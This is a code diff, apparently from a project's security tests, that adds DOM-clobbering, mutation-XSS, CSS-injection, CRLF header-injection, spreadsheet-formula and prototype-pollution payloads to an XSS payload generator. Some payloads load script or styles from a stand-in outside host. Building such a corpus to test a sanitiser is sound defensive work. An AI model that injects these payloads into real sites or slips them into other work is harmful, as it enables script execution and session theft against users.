@@ -158,11 +158,77 @@ function* templates() {
   yield `<x-widget onclick=${CALL} contenteditable autofocus onfocus=${CALL}>`
 }
 
+/** Names that a page of ours uses itself, so that a script of ours would take the wrong thing for it. */
+function* names() {
+  const ours = ['roer', 'leave', 'main', 'data-live', 'hit', 'body', 'head', 'forms', 'cookie']
+  for (const name of ours) {
+    yield `<a id=${name}><a id=${name} name=hit href="javascript:${CALL}">`
+    yield `<form id=${name}><input name=action value="javascript:${CALL}"><input name=attributes>`
+    yield `<img name=${name} src=x onerror=${CALL}>`
+  }
+  for (const property of ['innerHTML', 'outerHTML', 'nodeName', 'parentNode', 'cloneNode']) {
+    yield `<form><input name=${property}><input name=${property} onfocus=${CALL} autofocus></form>`
+  }
+}
+
+/** What a page that is drawn anew over an open one might take for more than text. */
+function* drawnAnew() {
+  for (const attribute of [
+    'im-preserve',
+    'im-re-append',
+    'data-live',
+    'data-ignore',
+    'is',
+    'slot',
+  ]) {
+    yield `<div ${attribute}="true" onclick=${CALL}><img src=x onerror=${CALL}></div>`
+    yield `" ${attribute}="${CALL}" x="`
+  }
+  yield `<head im-preserve><script>${CALL}</script></head>`
+  yield `<script type=module>${CALL}</script>`
+  yield `<script type=importmap>{"imports":{"/assets/":"data:text/javascript,${CALL}"}}</script>`
+  yield `<script type=speculationrules>{"prefetch":[{"urls":["/weg"]}]}</script>`
+  yield `<link rel=modulepreload href="data:text/javascript,${CALL}">`
+  yield `<link rel=preload as=script href=//elsewhere.example/x.js>`
+  yield `trustedTypes.createPolicy('default',{createHTML:s=>s});${CALL}`
+  yield `<svg><style>/*<![CDATA[*/</style><img src=x onerror=${CALL}>/*]]>*/`
+  yield `<select><template><img src=x onerror=${CALL}></template></select>`
+  yield `<table><td><svg><desc><table><img src=x onerror=${CALL}>`
+  yield `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`
+}
+
+/** What styles, heads of mails and lines of other files are made of. */
+function* otherLanguages() {
+  for (const rule of [
+    '@import url(//elsewhere.example/x.css);',
+    'body{background:url(//elsewhere.example/x)}',
+    'x{behavior:url(#x);-moz-binding:url(#x)}',
+    `a{width:expression(${CALL})}`,
+    ':root{--x:url(//elsewhere.example/x)}',
+  ]) {
+    yield `<style>${rule}</style>`
+    yield `</style>${rule}`
+    yield `" style="${rule}" x="`
+  }
+  for (const line of ['\n', '%0d%0a', '\\r\\n', '&#13;&#10;', '\u0085', '\u2028']) {
+    yield `x${line}Content-Type: text/html${line}${line}<script>${CALL}</script>`
+    yield `x${line}Set-Cookie: roer=x${line}Location: javascript:${CALL}`
+    yield `x${line}data: <img src=x onerror=${CALL}>${line}event: look`
+    yield `x${line}END:VEVENT${line}URL:javascript:${CALL}`
+  }
+  for (const start of ['=', '+', '-', '@']) yield `${start}HYPERLINK("javascript:${CALL}","klik")`
+  for (const path of ['__proto__', 'constructor.prototype', 'toString']) {
+    yield `{"${path}":{"innerHTML":"<img src=x onerror=${CALL}>"}}`
+    yield `${path}[src]=data:,${CALL}`
+  }
+}
+
 /** The first so many, taken in turn from every class. */
 export function xssPayloads(count: number): string[] {
-  const classes = [elements, attributes, addresses, drawings, hidden, templates].map((one) => [
-    ...new Set(one()),
-  ])
+  const classes = [
+    ...[elements, attributes, addresses, drawings, hidden, templates],
+    ...[names, drawnAnew, otherLanguages],
+  ].map((one) => [...new Set(one())])
   const longest = Math.max(...classes.map(({ length }) => length))
   const inTurn = Array.from({ length: longest }, (_, index) =>
     classes.flatMap((one) => one.slice(index, index + 1)),
